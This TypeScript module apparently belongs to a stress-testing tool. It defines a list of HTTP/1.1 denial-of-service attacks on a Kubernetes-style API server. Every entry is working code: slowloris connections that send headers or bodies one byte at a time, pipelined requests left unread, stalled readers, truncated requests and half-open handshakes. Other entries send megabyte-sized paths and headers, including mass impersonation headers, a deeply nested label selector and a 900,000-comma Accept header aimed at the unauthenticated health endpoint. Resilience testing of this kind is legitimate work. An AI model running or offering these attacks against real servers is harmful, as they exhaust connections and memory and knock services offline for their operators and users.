import { type Attack, pause, repeat } from "../attack.js";
import { dial, requestText } from "../raw-connection.js";

const lists = "/api/v1/configmaps";

/** What a client can do to the connections of HTTP/1.1. */
export const http1Attacks: readonly Attack[] = [
  {
    name: "500 connections whose headers come one byte at a time",
    run: (target, signal) =>
      repeat(signal, 500, async () => {
        const connection = await dial(target, signal);
        connection.write(`GET ${lists} HTTP/1.1\r\nHost: x\r\n`);
        while (!signal.aborted && !connection.socket.destroyed) {
          connection.write("x");
          await pause(100, signal);
        }
      }),
  },
  {
    name: "300 connections whose bodies come one byte at a time",
    run: (target, signal) =>
      repeat(signal, 300, async () => {
        const connection = await dial(target, signal);
        connection.write(
          requestText(target, {
            method: "POST",
            path: "/api/v1/namespaces/default/configmaps",
            headers: "Content-Type: application/json\r\nContent-Length: 100000\r\n",
          }),
        );
        while (!signal.aborted && !connection.socket.destroyed) {
          connection.write(" ");
          await pause(100, signal);
        }
      }),
  },
  {
    name: "60 lists at once on a connection that is not read and then cut",
    run: (target, signal) =>
      repeat(signal, 4, async () => {
        const connection = await dial(target, signal);
        connection.socket.pause();
        connection.write(requestText(target, { path: lists }).repeat(60));
        await pause(200, signal);
        connection.socket.destroy();
      }),
  },
  {
    name: "100 readers that stop in the middle of a list",
    run: (target, signal) =>
      repeat(signal, 100, async () => {
        const connection = await dial(target, signal);
        connection.write(requestText(target, { path: lists, headers: "Accept: application/yaml\r\n" }));
        await connection.answered;
        connection.socket.pause();
        await pause(60_000, signal);
        connection.socket.destroy();
      }),
  },
  {
    name: "requests that are cut at any byte",
    run(target, signal) {
      const whole = requestText(target, {
        method: "POST",
        path: "/api/v1/namespaces/default/configmaps",
        headers: "Content-Type: application/json\r\n",
        body: '{"metadata":{"generateName":"cut-"}}',
      });
      return repeat(signal, 20, async (turn) => {
        const connection = await dial(target, signal);
        connection.write(whole.slice(0, turn % whole.length));
        await pause(1, signal);
        connection.socket.destroy();
      });
    },
  },
  {
    name: "handshakes that are left in the middle",
    run: (target, signal) =>
      repeat(signal, 20, async () => {
        const connection = await Promise.race([dial(target, signal), pause(2, signal)]);
        if (connection) connection.socket.destroy();
      }),
  },
  {
    name: "a megabyte of slashes, blanks and headers",
    run(target, signal) {
      const requests = [
        requestText(target, { path: `/a${"/".repeat(1_000_000)}b` }),
        requestText(target, { path: lists, headers: `Accept: a${" ".repeat(1_000_000)}b\r\n` }),
        requestText(target, { path: lists, headers: `Accept: a/b;c="${"\\!".repeat(400_000)}\r\n` }),
        requestText(target, { path: lists, headers: "X-A: b\r\n".repeat(100_000) }),
        requestText(target, {
          path: lists,
          headers: `Impersonate-User: x\r\n${Array.from({ length: 30_000 }, (_, at) => `Impersonate-Extra-k${at}: v\r\n`).join("")}`,
        }),
        requestText(target, { path: `${lists}?labelSelector=${"(".repeat(500_000)}` }),
        requestText(target, {
          path: `${lists}?labelSelector=${encodeURIComponent(Array.from({ length: 40_000 }, (_, at) => `a${at}!=b`).join())}`,
        }),
      ];
      return repeat(signal, 2, async (turn) => {
        const connection = await dial(target, signal);
        connection.write(requests[turn % requests.length]!);
        await connection.answered;
        connection.socket.destroy();
      });
    },
  },
  {
    name: "nobody known: Accept of 900,000 commas, and a duration as long",
    run(target, signal) {
      const head = "Host: x\r\nConnection: close\r\n";
      const requests = [
        `GET /livez HTTP/1.1\r\n${head}Accept: ${",".repeat(900_000)}\r\n\r\n`,
        `GET /livez?timeout=${"1h".repeat(450_000)} HTTP/1.1\r\n${head}\r\n`,
      ];
      return repeat(signal, 16, async (turn) => {
        const connection = await dial(target, signal);
        connection.write(requests[turn % requests.length]!);
        connection.socket.resume();
        await connection.closed;
      });
    },
  },
];
